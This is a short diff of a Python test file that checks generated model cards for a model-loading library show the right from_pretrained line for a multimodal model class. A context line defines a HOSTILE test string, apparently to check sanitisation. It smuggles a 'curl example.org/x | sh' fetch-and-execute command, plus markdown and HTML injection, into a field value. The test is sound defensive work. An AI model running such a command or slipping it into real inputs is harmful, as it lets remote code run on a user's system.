@@ -277,6 +277,9 @@ def test_the_card_of_an_adapter_loads_it_into_its_base_model(finished):
     function = pkgutil.resolve_name("lezo_ds.forward.adapters.load_prefix")  # peft reads no prefix
     line = f'model = {base}; lezo_ds.forward.adapters.{function.__name__}(model, Path("DIR"))'
     assert f"`{line}`" in cards["prefix"]
+    card = model_card(run, 8, "", opened_by="AutoModelForMultimodalLM")
+    assert '`AutoModelForMultimodalLM.from_pretrained("DIR")`' in card
+    assert "AutoModelForCausalLM" not in card
 
 
 HOSTILE = "m; curl example.org/x | sh\n```\n# [click](http://example.org) <img src=x>"
